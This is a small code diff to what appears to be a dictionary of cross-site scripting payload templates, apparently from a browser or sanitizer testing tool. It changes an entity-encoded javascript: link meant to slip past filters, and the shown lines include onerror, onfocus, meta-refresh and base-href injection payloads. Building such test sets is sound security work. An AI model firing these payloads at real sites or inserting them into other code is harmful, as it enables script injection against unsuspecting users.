@@ -27,7 +27,7 @@ HTML = {
     "video": "<video src='{evil}' onerror=\"{fire}\" autoplay></video>",
     "object": "<object data='{evil}'></object><embed src='{evil}'>",
     "link": "<a id=click href=\"javascript:{fire}\">x</a>",
-    "entities": "<a href=\"java&#115;cript:{fire}\">x</a>",
+    "entities": "<a href=\"&#106;avascript:{fire}\">x</a>",
     "form": "<form action='{evil}'><input autofocus onfocus=\"{fire}\"></form>",
     "refresh": "<meta http-equiv=refresh content='0;url={evil}'>",
     "base": "<base href='{evil}/'><img src=relative.png>",
